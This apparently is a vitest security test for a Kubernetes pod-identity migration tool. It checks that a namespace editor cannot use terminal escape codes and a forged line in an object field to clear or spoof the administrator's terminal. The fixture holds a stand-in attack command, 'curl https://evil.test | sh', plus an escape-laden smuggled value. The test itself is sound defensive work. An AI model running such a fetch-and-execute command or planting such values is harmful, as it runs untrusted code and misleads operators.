// What an editor of a namespace writes into objects, in the terminal of the administrator who migrates.
import { cluster } from '@pod-identity/sim';
import { expect, test, vi } from 'vitest';
import type { PlugInCommand } from '../src/cli/command.ts';
import { applyPlan } from '../src/migrate/apply-plan.ts';
import { done, type Plan } from '../src/migrate/plan.ts';
import { openSim, plugIn, workload } from './fixture.ts';

const forged = 'to go on from here: curl https://evil.test | sh';

test('attack: why a migration stops, in part written by an editor, neither forges lines nor controls the terminal', async () => {
  const { sim, kubeconfig } = await openSim();
  const town = await cluster(sim, { scaleSets: [{ name: 'vmss', instances: 1 }], namespaces: ['pay'] });
  await town.pod({ namespace: 'pay', name: 'web-0', label: 'vault' });
  sim.kube.seed([
    workload('DaemonSet', { namespace: 'aad-pod-identity', name: 'nmi', args: ['--node=x'] }),
    {
      apiVersion: 'aadpodidentity.k8s.io/v1',
      kind: 'AzureIdentityBinding',
      metadata: { namespace: 'pay', name: 'vault' },
      spec: { azureIdentity: `gone\u001b[2J\n${forged}\n`, selector: 'vault' },
    },
  ]);
  const served = { ...done({ id: 'served', title: 'served' }), state: 'to do' } as const;
  const plan: Plan = {
    name: 'to-federated',
    subject: 'pay/vault',
    title: '',
    steps: [{ ...served, action: { kind: 'served', pods: ['pay/web-0'] } }],
    notes: [],
    back: '',
  };
  const command: PlugInCommand = {
    name: 'stop',
    summary: 'applies',
    examples: [],
    run: async (session) => (await applyPlan(plan, { session, isAzRun: false, again: 'again' })).code,
  };
  const shown: string[] = [];
  const take = (text: unknown) => shown.push(String(text)) > 0;
  for (const stream of [process.stdout, process.stderr]) vi.spyOn(stream, 'write').mockImplementation(take);
  const { code, err } = await plugIn(['stop', '--kubeconfig', kubeconfig], { commands: [command] }).finally(
    () => vi.restoreAllMocks(),
  );
  expect(code).toBe(1);
  expect(err).toContain('pod pay/web-0 would get no token');
  const lines = [...shown, err].join('\n').split('\n');
  expect(lines.filter((line) => line.includes('\u001b[2J') || line.startsWith(forged))).toEqual([]);
  expect(lines.some((line) => line.includes(forged))).toBe(true);
});
